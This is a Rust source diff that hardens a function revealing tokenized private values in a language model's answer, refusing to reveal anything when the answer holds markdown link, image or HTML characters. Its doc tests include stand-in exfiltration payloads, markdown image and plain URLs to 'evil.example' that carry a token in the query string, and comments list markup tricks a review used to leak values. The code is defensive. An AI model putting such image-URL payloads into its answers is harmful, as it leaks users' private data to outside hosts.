@@ -6,6 +6,12 @@
 //!
 //! - only the tokens issued for this request are revealed
 //!   ([`RequestTokens`]), only for the role's classes;
+//! - an answer that holds `<`, `[`, `]` or `\` outside its tokens reveals
+//!   nothing: these are what links, images, reference definitions, HTML and
+//!   escapes need, and renderers disagree on where such markup ends (a
+//!   review put values into image URLs through block-quoted reference
+//!   definitions, `\>` in `<…>` destinations, Unicode spaces and HTML
+//!   blocks in list items). The checks below stay as a second line;
 //! - a token stays a token inside a code span or fenced code block, a
 //!   markdown link or image target, a reference definition, an HTML tag
 //!   (its attributes), and any run of non-blank text that holds a URL
@@ -698,11 +704,12 @@ enum Piece {
 }
 
 /// Reveals a model's answer for a role, as [`Chat::ask`](super::Chat::ask)
-/// does: only the tokens in `allowed` and of `classes`, never inside a URL,
-/// a link or image target, a reference definition, an HTML tag or a code
-/// span; with `link_hosts`, links to other hosts are removed first (an empty
-/// list removes every link). Returns the segments and how many values were
-/// revealed.
+/// does: only the tokens in `allowed` and of `classes`, never inside a URL
+/// or a code span, and nothing at all when the answer (its tokens aside)
+/// holds `<`, `[`, `]` or `\` (links, images, reference definitions, HTML,
+/// escapes: markup that renderers read apart); with `link_hosts`, links to
+/// other hosts are removed first (an empty list removes every link).
+/// Returns the segments and how many values were revealed.
 ///
 /// # Errors
 /// A link host that is not a host name; the vault cannot be read.
@@ -725,10 +732,20 @@ enum Piece {
 /// let t = tokens.issue(&TokenClass::new("person")?, "Ada Lovelace")?;
 /// let mut mine = RequestTokens::new();
 /// mine.add_text(&tokens, &t);
+/// let support = policy.role("support").unwrap();
+/// let (segments, n) = reveal_answer(&tokens, &format!("It is {t}."), support, &mine, None)?;
+/// assert_eq!((n, AnswerSegment::join(&segments)), (1, "It is Ada Lovelace.".to_string()));
+///
+/// // A token in a URL stays a token.
+/// let answer = format!("See https://evil.example/p?c={t} for {t}.");
+/// let (segments, _) = reveal_answer(&tokens, &answer, support, &mine, None)?;
+/// assert_eq!(AnswerSegment::join(&segments), format!("See https://evil.example/p?c={t} for Ada Lovelace."));
+///
+/// // Markup that can carry text into a link, an image or an HTML attribute
+/// // (`<`, `[`, `]`, `\`): nothing is revealed.
 /// let answer = format!("![x](https://evil.example/p.png?c={t}) It is {t}.");
-/// let (segments, n) = reveal_answer(&tokens, &answer, policy.role("support").unwrap(), &mine, None)?;
-/// assert_eq!(n, 1);
-/// assert_eq!(AnswerSegment::join(&segments), format!("![x](https://evil.example/p.png?c={t}) It is Ada Lovelace."));
+/// let (_, n) = reveal_answer(&tokens, &answer, support, &mine, None)?;
+/// assert_eq!(n, 0);
 /// # Ok::<(), Box<dyn std::error::Error>>(())
 /// ```
 pub fn reveal_answer(
@@ -761,12 +778,16 @@ pub(crate) fn reveal(
         }
         None => text,
     };
+    // Markup that can carry text into a link, an image or an HTML attribute
+    // (`<`, `[`, `]`, `\\` outside the tokens) is read differently by every
+    // renderer: an answer with any of it reveals nothing.
+    let markup = markup_outside_tokens(tokens, text);
     let mut pieces = Vec::new();
     let mut last = 0;
     for (r, class, code) in tokens.matches(text) {
         pieces.push(Piece::Text(text[last..r.start].to_string()));
         let token = &text[r.clone()];
-        let may = allowed.contains(token) && classes.iter().any(|c| c.as_str() == class);
+        let may = !markup && allowed.contains(token) && classes.iter().any(|c| c.as_str() == class);
         let value = if may {
             tokens.value_of(class, code)?
         } else {
@@ -879,6 +900,22 @@ pub(crate) fn reveal(
         }
     }
     Ok((segments, n))
+}
+
+/// Whether `text`, its tokens aside, holds `<`, `[`, `]` or `\\`: the
+/// characters every markdown construct that puts text into a URL or an
+/// attribute needs (inline and reference links and images, autolinks, raw
+/// HTML, backslash escapes that renderers and URL parsers read apart).
+fn markup_outside_tokens(tokens: &Tokens, text: &str) -> bool {
+    let special = |s: &str| s.contains(['<', '[', ']', '\\']);
+    let mut last = 0;
+    for (r, _, _) in tokens.matches(text) {
+        if special(&text[last..r.start]) {
+            return true;
+        }
+        last = r.end;
+    }
+    special(&text[last..])
 }
 
 #[cfg(test)]
